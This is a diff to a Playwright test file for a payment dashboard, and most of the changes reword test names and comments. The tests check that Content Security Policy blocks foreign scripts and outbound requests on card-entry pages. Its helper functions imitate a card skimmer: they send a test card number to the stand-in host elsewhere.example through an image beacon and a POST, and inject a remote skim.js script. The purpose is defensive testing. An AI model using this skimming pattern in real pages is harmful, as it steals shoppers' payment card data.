@@ -6,7 +6,7 @@ import { fieldsIn, openShop, typeCard } from "./shop";
 
 const NONCE = /'nonce-([\w+/=]+)'/;
 
-/** What differs from answer to answer, or from build to build; the rest is compared to the byte. */
+/** Replaces the parts of a header that differ from answer to answer or from build to build; the rest is compared. */
 const constant = (name: string, value: string) =>
   ["date", "x-request-id"].includes(name)
     ? "…"
@@ -45,7 +45,7 @@ test("a page of the dashboard has exactly these headers", async ({ page, seller 
   });
 });
 
-test("the page that shows test cards runs scripts of our build alone, and asks nobody else for anything", async ({
+test("the page with the test cards runs only scripts of our build, and sends requests to no other site", async ({
   page,
   seller,
 }) => {
@@ -66,7 +66,7 @@ test("the page that shows test cards runs scripts of our build alone, and asks n
   for (const url of asked) expect(new URL(url).origin).toBe(env.APP_URL);
 });
 
-test("the card fields load nothing: all they ask for is a token", async ({ page, seller }) => {
+test("the card fields send no request except for a token", async ({ page, seller }) => {
   const shop = await openShop(seller);
   await page.goto(shop.origin);
   await typeCard(page);
@@ -80,19 +80,19 @@ test("the card fields load nothing: all they ask for is a token", async ({ page,
   shop.close();
 });
 
-/** What a skimmer would do in a page of ours: send the card elsewhere, in two ways. */
+/** Runs in the page what a skimmer would: it sends the card elsewhere, in two ways. */
 async function steal(url: string) {
   document.body.append(Object.assign(new Image(), { src: `${url}/4111111111111111.png?card=4111111111111111` }));
   await fetch(`${url}/card?number=4111111111111111`, { method: "POST", mode: "no-cors" }).catch(() => {});
 }
 
-/** How a skimmer would come in: as a script from another site. */
+/** Loads a script from another site, as a skimmer would be loaded. */
 const load = (url: string) =>
   document.head.append(
     Object.assign(document.createElement("script"), { src: `${url}/skim.js?card=4111111111111111` }),
   );
 
-/** A new address for what is stolen, the answers that came from it, and what browsers reported of it. */
+/** A new address for stolen data, the answers from it, and browsers' reports about it. */
 function provoke(page: Page) {
   const url = `https://elsewhere.example${PROVOKED}/${newId()}`;
   const answered: string[] = [];
@@ -105,7 +105,7 @@ function provoke(page: Page) {
   return { url, answered, reported };
 }
 
-test.describe("what does not belong in a page of ours", () => {
+test.describe("a foreign script in a page of ours", () => {
   test.use({ allowErrors: /elsewhere\.example\/provoked-by-a-test/ });
 
   test("is blocked in the card fields, and reported to us without a card's number", async ({ page, seller }) => {
